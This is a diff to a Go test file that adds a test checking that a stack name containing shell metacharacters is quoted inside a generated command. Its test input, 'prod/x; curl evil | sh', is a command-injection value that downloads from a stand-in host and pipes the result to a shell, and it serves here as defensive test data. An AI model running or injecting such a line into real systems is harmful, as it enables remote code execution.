@@ -182,6 +182,13 @@ func TestNamesInThePictureAreCutInTheMiddle(t *testing.T) {
 	}
 }
 
+// A stack can depend on what has any name.
+func TestNamesAreWordsOfCommands(t *testing.T) {
+	if got := commandsOf("prod/x; curl evil | sh"); got[2] != "yuba impact 'prod/x; curl evil | sh'" {
+		t.Error(got)
+	}
+}
+
 func BenchmarkThousandNodes(b *testing.B) {
 	o := crowd(1000)
 	for b.Loop() {
